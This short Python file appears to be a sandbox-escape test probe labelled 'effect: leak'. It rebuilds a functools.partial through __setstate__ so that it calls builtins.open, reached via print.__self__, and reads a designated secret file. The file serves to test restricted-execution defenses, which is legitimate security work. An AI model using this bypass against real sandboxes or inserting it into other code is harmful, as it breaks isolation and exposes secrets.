# effect: leak
# note: a partial rebuilt with another function
import functools


def attempt(probe):
    made = functools.partial(len)
    made.__setstate__((print.__self__.open, (probe["secret_file"],), {}, {}))
    return made().read()
